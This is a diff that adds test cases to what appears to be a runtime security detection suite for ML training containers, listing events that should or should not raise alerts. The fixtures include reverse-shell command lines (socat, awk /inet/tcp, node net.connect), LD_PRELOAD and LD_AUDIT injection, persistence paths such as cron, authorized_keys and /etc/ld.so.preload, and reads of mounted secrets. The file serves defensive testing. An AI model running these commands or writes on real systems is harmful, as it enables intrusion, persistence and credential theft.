@@ -102,6 +102,25 @@ CAPABILITIES = (
 )  # fmt: skip
 
 
+PRELOADS = (
+    ("LD_PRELOAD", "/tmp/x"), ("LD_PRELOAD", "/var/tmp/x"), ("LD_AUDIT", "/proc/x"), ("LD_AUDIT", "/dev/shm/x"),
+    ("LD_AUDIT", "/tmp/x"), ("LD_LIBRARY_PATH", "/proc/x"),
+)  # fmt: skip
+STARTUP_TARGETS = (
+    "/etc/cron.d/x", "/var/spool/cron/x", "/root/.ssh/authorized_keys", "/etc/ld.so.preload", "/etc/ld.so.conf",
+    "/etc/init.d/x", "/etc/systemd/system/x", "/etc/sudoers", "/x/sitecustomize.py", "/x/usercustomize.py",
+    "/x/site-packages/x.pth",
+)  # fmt: skip
+PICKLES = ("pickle", "pck", "dill", "pt", "ckpt")
+KEPT = ("/models/x.lock", "/models/__pycache__/x.pyc")
+HELPERS = ("/usr/bin/x86_64-linux-gnu-g++-14", "/usr/libexec/gcc/x/cc1", "/usr/lib/gcc/x/cc1", "/x/dist-packages/x/x")
+UPPER = {"proc_is_exe_upper_layer": True}
+
+
+def listening(port: int) -> Any:
+    return r.in_container(r.TRAINER, evt_type="listen", fd_typechar="4", fd_sip="0.0.0.0", fd_sport=port)
+
+
 def moved(kind: str, **paths: str) -> Any:
     return r.in_container(r.SERVER, evt_type=kind, proc_name="x", **paths)
 
@@ -144,6 +163,41 @@ FIRES = [
     *((r.PORT, name, r.spawned(f"python3 -m {name}")) for name in ("http.server", "SimpleHTTPServer", "pyftpdlib")),
     *((r.SHARED_MEMORY, path, r.spawned("x", exepath=f"{path}/x")) for path in ("/dev/shm", "/run/shm", "/dev/a")),
     *((r.TEMPORARY, path, r.spawned("x", exepath=f"{path}/x")) for path in ("/tmp", "/var/tmp", "/run/lock")),
+    *((r.PICKLE, end, r.opened(f"/m/x.{end}", image=r.SERVER, by="python3")) for end in PICKLES),
+    *((r.PRELOAD, value, {**r.spawned("x"), f"proc.env[{name}]": value}) for name, value in PRELOADS),
+    *((r.STARTUP, f"to {name}", moved("rename", fs_path_target=name)) for name in STARTUP_TARGETS),
+    (r.SHARED_MEMORY, "memfd", r.spawned("x", exepath="memfd:x")),
+    (r.SHARED_MEMORY, "/memfd", r.spawned("x", exepath="/memfd:x")),
+    (r.SHARED_MEMORY, "flag", r.spawned("x", exepath="/x", proc_is_exe_from_memfd=True)),
+    (r.SHARED_MEMORY, "musl", r.spawned("ld-musl /dev/shm/x", exepath="/lib/ld-musl-x86_64.so.1")),
+    (r.SHARED_MEMORY, "perl", r.spawned("perl /dev/shm/x")),
+    (r.SHARED_MEMORY, "folder", r.spawned("python3 x", proc_cwd="/run/shm/")),
+    (r.TEMPORARY, "musl", r.spawned("ld-musl /tmp/x", exepath="/lib/ld-musl-x86_64.so.1")),
+    (r.TEMPORARY, "perl", r.spawned("perl /tmp/x", r.SERVER)),
+    (r.DEVICE, "hard link", r.in_container(r.OTHER, evt_type="link", fs_path_target="/dev/nvidia0")),
+    (r.DEVICE, "mount by number", r.in_container(r.OTHER, evt_type="mount", evt_arg_dev="/dev/char/195:0")),
+    *((r.DEVICE, kind, r.spawned(f"mknod /x {kind} 9 1", r.OTHER)) for kind in "bcu"),
+    (r.DEVICE, "disk, approved", r.spawned("mknod /x b 8 0")),
+    (r.DEVICE, "GPU, approved", r.spawned("mknod /x c 195 0")),
+    (r.DEVICE, "mounted, approved", r.in_container(r.TRAINER, evt_type="open_tree", proc_name="x")),
+    (r.ALL_GPUS, "MIG's watch", {**r.spawned("x"), "proc.env[NVIDIA_MIG_MONITOR_DEVICES]": "all"}),
+    (r.CREDENTIALS, "python -u -c", r.opened("/secrets/registry/x", by="python3 -u -c")),
+    (r.CREDENTIALS, "projected", r.opened("/h/kubernetes.io~projected/x", by="x")),
+    (r.CREDENTIALS, "link", r.in_container(r.SERVER, evt_type="symlink", evt_arg_target="/secrets/registry")),
+    (r.CREDENTIALS, "parent", r.in_container(r.SERVER, evt_type="symlink", evt_arg_target="/run/secrets")),
+    (r.CREDENTIALS, "mount of the parent", r.in_container(r.SERVER, evt_type="mount", evt_arg_dev="/secrets")),
+    (r.MINER, "name", r.spawned("superminer x")),
+    (r.MINER, "registers", r.opened("/dev/cpu/0/msr", "w", r.OTHER, by="x")),
+    (r.SHELL, "node", r.spawned("node -e net.connect(1); child_process")),
+    (r.SHELL, "awk", r.spawned("awk BEGIN{s=/inet/tcp/0/h/1; s |& getline c}")),
+    (r.SHELL, "socat", r.below_python("socat tcp:10.0.0.1:1 EXEC:sh")),
+    (r.SHELL, "stdout", r.spawned("sh", r.OTHER, proc_stdout_type="ipv6")),
+    (r.SHELL, "dropped into a package", r.below_python("x", exepath="/u/site-packages/x", image=r.SERVER, **UPPER)),
+    (r.SOCKET_SHELL, "stderr", r.spawned("sh", r.OTHER, proc_stderr_type="ipv4")),
+    (r.SOME_SHELL, "renamed", r.below_python("x -l", exepath="/usr/bin/bash")),
+    (r.SOME_SHELL, "pypy", r.spawned("bash -l", parent="/x", proc_aexepath_2="/opt/pypy/bin/pypy")),
+    (r.PORT, "notebook", r.spawned("python3 -m notebook", r.SERVER)),
+    (r.DOWNLOAD, "client of the hub", r.spawned("hf download x", exepath="/x/hf", proc_env_hub="http://e.io")),
 ]  # fmt: skip
 SILENT = [
     *((r.WRITTEN, name, r.opened(f"/d/{name}", "r", by="wget -O")) for name in MODEL_NAMES),
@@ -164,6 +218,31 @@ SILENT = [
     *((r.GPU, name, r.opened(f"/tmp/d/{name}.log", image=r.OTHER)) for name in GPUS),
     *((r.CAPABILITY, name, r.opened(name, image="nvcr.io/nvidia/k8s/dcgm-exporter")) for name in CAPABILITIES),
     *((r.ALL_GPUS, value, r.spawned("x", proc_env_gpus=value)) for value in VALUES),
+    *((r.CHANGED, path, r.opened(path, "w", r.SERVER, by="python3")) for path in KEPT),
+    *((r.CHANGED, path, moved("rename", fs_path_target=path)) for path in KEPT[1:]),
+    *((r.CHANGED, path, moved("unlink", fs_path_name=path)) for path in KEPT),
+    (r.STARTUP, "dpkg", r.opened("/etc/cron.d/x", "w", by="dpkg")),
+    *((r.SHELL, path, r.below_python("x", exepath=path, image=r.SERVER)) for path in HELPERS),
+    (r.SHELL, "below a shell", r.spawned("x", r.SERVER, parent="/bin/ash", proc_pname="ash")),
+    (r.SHELL, "below a script", r.spawned("x", r.SERVER, parent="/usr/bin/bash", proc_pname="entry.sh")),
+    (r.SHELL, "below an init", r.spawned("x", r.SERVER, parent="/usr/bin/tini")),
+    (r.SHELL, "which", r.below_python("sh -c which nvcc", image=r.SERVER)),
+    (r.SHELL, "cat", r.below_python("sh -c cat /proc/cpuinfo", image=r.SERVER)),
+    (r.SOME_SHELL, "a script", r.below_python("x /usr/bin/x -a", exepath="/usr/bin/dash")),
+    (r.SOME_SHELL, "a script here", r.below_python("x ./x -a", exepath="/usr/bin/dash")),
+    (r.PORT, "sidecar", {**listening(4444), "container.name": "istio-proxy"}),
+    *((r.PORT, str(port), listening(port)) for port in (8888, 8001, 10001, 29500, 0, 32768)),
+    (r.PORT, "failed", {**listening(4444), "evt.failed": True}),
+    *((r.MINER, name, r.spawned(name)) for name in ("textminer", "pdfminer", "processminer", "dataminer")),
+    (r.MINER, "curl", r.spawned("curl -o x:11 -u me", r.OTHER)),
+    (r.GPU, "folder", r.opened("/srv/nvidia0", image=r.OTHER, fd_typechar="d")),
+    (
+        r.DEVICE,
+        "modprobe",
+        r.in_container(r.OTHER, evt_type="mknod", evt_arg_dev="204472320", proc_name="nvidia-modprobe"),
+    ),
+    (r.PACKAGE, "rpm asks", r.spawned("rpm -i -q x")),
+    (r.PICKLE, "of Python", r.opened("/x/site-packages/x.pth", image=r.SERVER, by="python3")),
 ]
 
 
